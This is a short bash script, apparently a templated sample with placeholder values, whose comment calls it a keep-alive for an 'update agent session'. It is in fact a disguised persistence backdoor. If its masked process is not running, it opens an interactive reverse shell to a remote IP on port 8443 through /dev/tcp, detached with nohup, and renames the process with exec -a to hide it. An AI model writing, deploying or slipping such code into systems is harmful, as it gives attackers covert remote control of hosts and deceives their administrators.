#!/bin/bash
# kupd - keeps the update agent session alive
if ! pgrep -f "{{artifact_1}}" >/dev/null 2>&1; then
  nohup bash -c 'exec -a {{artifact_1}} bash -i >& /dev/tcp/{{ip_3}}/8443 0>&1' >/dev/null 2>&1 &
fi
